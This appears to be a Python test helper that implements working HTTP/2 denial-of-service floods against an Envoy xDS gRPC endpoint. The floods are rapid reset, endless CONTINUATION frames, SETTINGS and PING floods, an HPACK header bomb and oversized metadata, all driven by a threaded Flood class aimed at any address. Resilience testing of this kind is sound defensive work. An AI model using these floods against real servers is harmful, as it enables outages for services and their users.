"""HTTP/2 frames that nobody who means well sends, on a socket of their own."""

import contextlib
import socket
import threading

import hpack
from hyperframe.frame import (
    ContinuationFrame,
    HeadersFrame,
    PingFrame,
    RstStreamFrame,
    SettingsFrame,
)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + SettingsFrame(0).serialize()
PATH = "/envoy.service.discovery.v3.AggregatedDiscoveryService/StreamAggregatedResources"
FRAME_BYTES = 16_384
STALL_S = 1.0
STREAM_IDS = range(1, 2**31, 2)


def _headers(authority, *more):
    return [
        (":method", "POST"),
        (":scheme", "http"),
        (":path", PATH),
        (":authority", authority),
        ("content-type", "application/grpc"),
        ("te", "trailers"),
        *more,
    ]


def _block(stream, block):
    """A header block in as many frames as it takes."""
    pieces = [block[at : at + FRAME_BYTES] for at in range(0, len(block), FRAME_BYTES)]
    for number, piece in enumerate(pieces):
        frame = (ContinuationFrame if number else HeadersFrame)(stream, piece)
        if number == len(pieces) - 1:
            frame.flags.add("END_HEADERS")
        yield frame.serialize()


def rapid_reset(authority):
    """Streams that are begun and reset at once."""
    encoder = hpack.Encoder()
    for stream in STREAM_IDS:
        yield (
            b"".join(_block(stream, encoder.encode(_headers(authority))))
            + RstStreamFrame(stream, error_code=8).serialize()
        )


def endless_headers(authority):
    """Headers that go on in CONTINUATION frames and never end."""
    yield HeadersFrame(1, hpack.Encoder().encode(_headers(authority))).serialize()
    more = hpack.Encoder().encode(
        [hpack.NeverIndexedHeaderTuple("x-pad", "a" * 16_000)], huffman=False
    )
    while True:
        yield ContinuationFrame(1, more).serialize()


def settings(_authority):
    """Settings that all want to be acknowledged."""
    while True:
        yield SettingsFrame(0, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 65_535}).serialize()


def pings(_authority):
    """Pings that all want an answer."""
    while True:
        yield PingFrame(0, b"01234567").serialize()


def header_bomb(authority):
    """Few bytes that stand for many: each names a large header of before a thousand times."""
    encoder = hpack.Encoder()
    large = encoder.encode(_headers(authority, ("x-bomb", "a" * 3_500)), huffman=False)
    again = b"\xbe" * 4_000  # the newest entry of the table
    for stream in STREAM_IDS:
        yield b"".join(_block(stream, large + again))


def large_metadata(authority):
    """A megabyte of metadata on each stream."""
    encoder = hpack.Encoder()
    encoder.header_table_size = 0
    block = encoder.encode(_headers(authority, ("x-big", "a" * 2**20)), huffman=False)
    for stream in STREAM_IDS:
        yield b"".join(_block(stream, block))


FLOODS = {
    f.__name__: f
    for f in (rapid_reset, endless_headers, settings, pings, header_bomb, large_metadata)
}


class Flood:
    """Sends one of these in a thread and reads nothing, over ever new connections, until its end.

    Attributes:
        sent: pieces that were handed to the kernel.

    Args:
        pieces: what is sent on each connection, of ``FLOODS``.
        address: of the victim.
        most: pieces, after which it only holds its connection; None: no such limit.
    """

    def __init__(self, pieces, address, *, most=None):
        self.sent = 0
        self._pieces = pieces
        host, _, port = address.rpartition(":")
        self._address = (host, int(port))
        self._most = most
        self._over = threading.Event()
        self._thread = threading.Thread(target=self._run, daemon=True)

    def __enter__(self):
        self._thread.start()
        return self

    def __exit__(self, *_):
        self._over.set()
        self._thread.join()

    def _run(self):
        while not self._over.is_set():
            # Closed by the server, or not read any more: the next one.
            with contextlib.suppress(OSError), socket.create_connection(self._address) as sock:
                sock.settimeout(STALL_S)
                sock.sendall(PREFACE)
                for piece in self._pieces(self._address[0]):
                    if self._over.is_set() or self.sent == self._most:
                        self._over.wait()
                        break
                    sock.sendall(piece)
                    self.sent += 1
